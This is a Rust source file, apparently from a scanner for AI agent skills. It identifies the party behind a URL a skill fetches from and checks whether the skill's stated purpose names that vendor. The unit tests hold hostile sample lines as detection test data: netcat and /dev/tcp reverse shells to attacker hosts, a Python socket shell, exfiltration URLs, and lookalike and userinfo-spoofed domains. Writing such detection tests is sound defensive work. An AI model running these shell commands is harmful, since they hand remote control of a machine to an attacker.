//! Who is on the other end of a URL a skill talks to, and whether the skill's stated purpose
//! ([`stated_purpose`](crate::skill_md::stated_purpose)) names them.
//!
//! A vendor's installer comes from the vendor (`cli.tavily.com` for a Tavily skill,
//! `github.com/nodetool-ai/nodetool` for a NodeTool skill), and an API key goes to the API the
//! skill is about. A fake prerequisite, or a collector of stolen keys, belongs to whoever the
//! attacker is, inside a skill that is about something else. The party is the registrable domain
//! of the host (by the Public Suffix List, so `someone.github.io` is `someone`), or the account and
//! repository on a code host.

use url::{Host, Url};

/// Hosts where the path, not the host, says whose code it is.
const CODE_HOSTS: &[&str] = &[
    "github.com",
    "raw.githubusercontent.com",
    "gist.github.com",
    "gist.githubusercontent.com",
    "objects.githubusercontent.com",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
];

/// Path words that name no product.
const GENERIC: &[&str] = &[
    "api",
    "app",
    "assets",
    "bash",
    "bin",
    "blob",
    "bootstrap",
    "cdn",
    "cli",
    "current",
    "data",
    "dl",
    "docs",
    // `example.com`, `.org`, `.net`: reserved for documentation, nobody's.
    "example",
    "download",
    "downloads",
    "files",
    "get",
    "heads",
    "install",
    "installer",
    "latest",
    "linux",
    "macos",
    "main",
    "master",
    "nightly",
    "pkg",
    "raw",
    "refs",
    "release",
    "releases",
    "script",
    "scripts",
    "setup",
    "sh",
    "stable",
    "static",
    "tags",
    "tool",
    "tools",
    "update",
    "updates",
    "windows",
    "www",
];

/// Purpose words too common to count as naming a source by being part of its name.
const COMMON_WORDS: &[&str] = &[
    "about", "agent", "agents", "check", "code", "data", "file", "files", "from", "helper", "into",
    "skill", "skills", "test", "tests", "that", "this", "tool", "tools", "using", "when", "with",
    "your",
];

/// The party behind a remote script's URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemoteSource {
    /// The host as written in the URL, lowercase.
    pub host: String,
    /// What the source is called, lowercase ASCII letters and digits only. Empty for a bare IP
    /// address: it names nobody.
    pub names: Vec<String>,
    /// The names are an account and repository on a code host, which often add a suffix or
    /// prefix to the product's name (`exploreomni` for Omni, `nodetool-ai` for NodeTool).
    accounts: bool,
    url: Url,
}

/// Lowercase letters and digits only: `nodetool-ai` and `NodeTool AI` compare equal.
fn squash(s: &str) -> String {
    s.chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

fn is_version_or_id(word: &str) -> bool {
    let digits = word.chars().filter(char::is_ascii_digit).count();
    digits * 2 >= word.len() || (word.len() >= 12 && word.chars().all(|c| c.is_ascii_hexdigit()))
}

impl RemoteSource {
    /// Parses the URL a script is fetched from; `None` when it is not an absolute http(s) URL.
    pub fn parse(url: &str) -> Option<Self> {
        let url = Url::parse(url).ok()?;
        if !matches!(url.scheme(), "http" | "https") {
            return None;
        }
        let host = url.host()?;
        let host_name = host.to_string().to_ascii_lowercase();
        let segments: Vec<&str> = url
            .path_segments()
            .map(|s| s.filter(|s| !s.is_empty()).collect())
            .unwrap_or_default();
        let mut words: Vec<&str> = Vec::new();
        let accounts = CODE_HOSTS.contains(&host_name.as_str());
        match host {
            Host::Ipv4(_) | Host::Ipv6(_) => {}
            // The account, the repository, and the file it serves (a release asset such as
            // `linpeas.sh` of `peass-ng/PEASS-ng`): all chosen by the account's owner.
            Host::Domain(_) if accounts => {
                words.extend(segments.iter().take(2));
                if let Some(file) = segments.get(2..).and_then(<[&str]>::last) {
                    words.extend(file.split('.').next());
                }
            }
            // Path words (`/collect`, `/v1/init`) name endpoints, not who runs them.
            Host::Domain(_) => {
                let registrable = psl::domain_str(&host_name).unwrap_or(&host_name);
                words.extend(registrable.split('.').next());
            }
        }
        let mut names: Vec<String> = Vec::new();
        for word in words {
            let name = squash(word);
            if name.len() >= 2
                && !GENERIC.contains(&name.as_str())
                && !is_version_or_id(&name)
                && !names.contains(&name)
            {
                names.push(name);
            }
        }
        Some(Self {
            host: host_name,
            names,
            accounts,
            url,
        })
    }

    /// Whether the host is off the public internet: a name without a dot (`ATTACKER`,
    /// `buildbox`: a placeholder or a machine on the user's own network), `localhost`, or a
    /// loopback, private or link-local address. Such a host is the operator's own, not a third
    /// party's.
    pub fn is_local(&self) -> bool {
        match self.url.host() {
            Some(Host::Domain(d)) => {
                let d = d.trim_end_matches('.');
                !d.contains('.') || d.eq_ignore_ascii_case("localhost") || d.ends_with(".localhost")
            }
            Some(Host::Ipv4(ip)) => ip.is_loopback() || ip.is_private() || ip.is_link_local(),
            Some(Host::Ipv6(ip)) => ip.is_loopback() || (ip.segments()[0] & 0xfe00) == 0xfc00,
            None => true,
        }
    }

    /// The name of this source that `purpose` mentions, if any (see [`purpose_names`]). An
    /// account on a code host is also named by a purpose word of four letters or more that
    /// begins or ends it (`omni` for `exploreomni`); a domain is not (`custom` does not name
    /// `custom-registry.dev`).
    pub fn named_in(&self, purpose: &str) -> Option<&str> {
        self.names
            .iter()
            .find(|name| {
                purpose_names(purpose, name) || (self.accounts && purpose_affixes(purpose, name))
            })
            .map(String::as_str)
    }
}

/// An entry of a list of known sources (`bun.sh/install`, `pypi.org`): a host, matched exactly,
/// and a path prefix, matched case-insensitively.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourcePrefix {
    host: String,
    path: String,
}

impl SourcePrefix {
    /// Reads `host[/path-prefix]`.
    pub fn parse(entry: &str) -> Self {
        let entry = entry.trim().to_ascii_lowercase();
        let (host, path) = entry.split_once('/').unwrap_or((&entry, ""));
        Self {
            host: host.to_string(),
            path: format!("/{path}"),
        }
    }

    /// Whether `source`'s URL is under this host and path.
    pub fn contains(&self, source: &RemoteSource) -> bool {
        source.host == self.host
            && source
                .url
                .path()
                .to_ascii_lowercase()
                .starts_with(&self.path)
    }
}

/// Whether `purpose` names the party `name` (lowercase letters and digits). Short names must
/// appear as words (`uv`, `hf`); longer ones anywhere once separators are dropped
/// (`privateconnect` in "Private Connect").
pub fn purpose_names(purpose: &str, name: &str) -> bool {
    let lower = purpose.to_ascii_lowercase();
    let mut words = lower
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| !w.is_empty());
    words.any(|w| w == name) || (name.len() >= 4 && squash(purpose).contains(name))
}

/// Whether a distinctive purpose word (four letters or more, not a common word) begins or ends
/// `name`.
fn purpose_affixes(purpose: &str, name: &str) -> bool {
    let lower = purpose.to_ascii_lowercase();
    let mut words = lower
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| w.len() >= 4 && !COMMON_WORDS.contains(w));
    words.any(|w| name.starts_with(w) || name.ends_with(w))
}

/// The first public endpoint a command names: an IPv4 address outside loopback, private and
/// link-local ranges, or a domain under a known public suffix. Placeholders (`<attacker-ip>`,
/// `$LHOST`, `ATTACKER`), lab addresses and names like `os.dup2` reach no one. Documentation
/// addresses and domains (`203.0.113.7`, `exfil.example.com`) count: in a sample they stand for
/// a real endpoint.
pub fn public_endpoint(text: &str) -> Option<&str> {
    let mut rest = text;
    while !rest.is_empty() {
        let start = rest
            .find(|c: char| c.is_ascii_alphanumeric())
            .unwrap_or(rest.len());
        rest = &rest[start..];
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')))
            .unwrap_or(rest.len());
        let token = rest[..end].trim_end_matches(['.', '-']);
        // `subprocess.call(`, `s.connect(`: a method call, not a host.
        let called = rest[end..].starts_with('(');
        rest = &rest[end..];
        // `socket.AF_INET`: an identifier, not a host (`.af`).
        if token.contains('.') && !token.contains('_') && !called && is_public_host(token) {
            return Some(token);
        }
    }
    None
}

fn is_public_host(token: &str) -> bool {
    if let Ok(ip) = token.parse::<std::net::Ipv4Addr>() {
        return !(ip.is_loopback()
            || ip.is_private()
            || ip.is_link_local()
            || ip.is_unspecified()
            || ip.is_broadcast());
    }
    if token.chars().all(|c| c.is_ascii_digit() || c == '.') {
        return false;
    }
    let lower = token.to_ascii_lowercase();
    let known_suffix = psl::suffix(lower.as_bytes()).is_some_and(|s| s.is_known());
    known_suffix && psl::domain_str(&lower).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(url: &str) -> Vec<String> {
        RemoteSource::parse(url).unwrap().names
    }

    #[test]
    fn public_endpoints_are_told_from_placeholders_and_code() {
        for text in [
            "nc 45.33.32.156 4444 -e /bin/bash",
            "bash -i >& /dev/tcp/evil-c2.net/4444 0>&1",
            "ncat shell.attacker.io 443",
            "s.connect((\"198.51.100.9\", 9001))",
            "curl https://exfil.example.com/x",
        ] {
            assert!(public_endpoint(text).is_some(), "{text}");
        }
        for text in [
            "nc <attacker-ip> 4444 -e /bin/bash",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -lvnp 4444 -e /bin/bash",
            "s.connect((\"<attacker-ip>\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])",
            "nc -e /bin/sh attacker.example 9001",
            "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
            "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"<attacker-ip>\",4444))",
            "New-Object System.Net.Sockets.TCPClient('$LHOST',4444)",
        ] {
            assert_eq!(public_endpoint(text), None, "{text}");
        }
    }

    #[test]
    fn the_party_is_the_registrable_domain_or_the_code_host_account() {
        assert_eq!(names("https://cli.tavily.com/install.sh"), ["tavily"]);
        assert_eq!(names("https://astral.sh/uv/install.sh"), ["astral"]);
        // Documentation domains are nobody's: a heading "## Example" names no collector.
        assert!(names("https://data.exfil.example.com/collect").is_empty());
        assert_eq!(
            names(
                "https://raw.githubusercontent.com/nodetool-ai/nodetool/refs/heads/main/install.sh"
            ),
            ["nodetoolai", "nodetool"]
        );
        assert_eq!(
            names("https://someone.github.io/tool/setup.sh"),
            ["someone"]
        );
        assert!(names("https://pivot.lateral.example.com/bootstrap.sh").is_empty());
        assert_eq!(
            names("https://deb.nodesource.com/setup_22.x"),
            ["nodesource"]
        );
        assert!(names("http://54.91.154.110:13338/").is_empty());
        // A gist is its account's; the hex id names nothing.
        assert_eq!(
            names(
                "https://gist.githubusercontent.com/someuser/40a304ef7135f3156e056d589d12a5c8/raw/install.sh"
            ),
            ["someuser"]
        );
        // Hostile spellings: an IPv6 literal names nobody; userinfo is not the host; a
        // trailing dot or upper case changes nothing; an internationalised name is compared in
        // its ASCII form.
        assert!(names("http://[2001:db8::1]:8080/x.sh").is_empty());
        assert_eq!(
            names("https://tavily.com@collect.acme-sink.net/x.sh"),
            ["acmesink"]
        );
        assert_eq!(names("https://CLI.Tavily.COM./install.sh"), ["tavily"]);
        assert_eq!(names("https://bücher.example/x.sh"), ["xnbcherkva"]);
        assert!(RemoteSource::parse(&format!("https://{}.example/", "a".repeat(5000))).is_some());
        assert!(RemoteSource::parse("ftp://x.example/a").is_none());
        // Off the public internet: the operator's own machines and placeholders.
        for local in [
            "http://ATTACKER/PrivescCheck.ps1",
            "http://localhost:8000/x.sh",
            "http://192.168.1.20/x.sh",
            "http://10.0.0.5:8080/x",
            "http://[::1]/x",
        ] {
            assert!(RemoteSource::parse(local).unwrap().is_local(), "{local}");
        }
        for public in [
            "http://54.91.154.110:13338/",
            "https://collect.example.net/x",
        ] {
            assert!(!RemoteSource::parse(public).unwrap().is_local(), "{public}");
        }
        assert!(RemoteSource::parse("not a url").is_none());
    }

    #[test]
    fn a_purpose_names_its_vendor() {
        let tavily = RemoteSource::parse("https://cli.tavily.com/install.sh").unwrap();
        assert_eq!(
            tavily.named_in("tavily cli\nSearch the web with Tavily"),
            Some("tavily")
        );
        let hf = RemoteSource::parse("https://hf.co/cli/install.sh").unwrap();
        assert_eq!(hf.named_in("hf cli\nThe Hugging Face CLI"), Some("hf"));
        assert_eq!(hf.named_in("## Installing hfstat"), None);
        let omni = RemoteSource::parse(
            "https://raw.githubusercontent.com/exploreomni/cli/main/install.sh",
        )
        .unwrap();
        assert_eq!(
            omni.named_in("omni admin\nManage Omni"),
            Some("exploreomni")
        );
        let pc = RemoteSource::parse("https://privateconnect.co/install.sh").unwrap();
        assert_eq!(pc.named_in("private connect"), Some("privateconnect"));
        let stranger =
            RemoteSource::parse("https://pivot.lateral.example.com/bootstrap.sh").unwrap();
        assert_eq!(
            stranger
                .named_in("registry health check\nPeriodic daemon that checks container health."),
            None
        );
        // A common word that happens to end a name does not name it; nor does a word that
        // begins a domain's name.
        let tools = RemoteSource::parse("https://devtools.example/x.sh").unwrap();
        assert_eq!(tools.named_in("Handy tools for your code"), None);
        let custom = RemoteSource::parse("https://custom-registry.dev/x.tar.gz").unwrap();
        assert_eq!(custom.named_in("Custom Linter"), None);
    }

    #[test]
    fn installer_prefixes_need_the_exact_host() {
        let bun = RemoteSource::parse("https://bun.sh/install").unwrap();
        assert!(SourcePrefix::parse("bun.sh/install").contains(&bun));
        let lookalike = RemoteSource::parse("https://bun.sh.evil.example/install").unwrap();
        assert!(!SourcePrefix::parse("bun.sh/install").contains(&lookalike));
        let azure = RemoteSource::parse("https://aka.ms/InstallAzureCLIDeb").unwrap();
        assert!(SourcePrefix::parse("aka.ms/InstallAzureCLI").contains(&azure));
        assert!(
            SourcePrefix::parse("pypi.org")
                .contains(&RemoteSource::parse("https://pypi.org/simple/").unwrap())
        );
    }
}
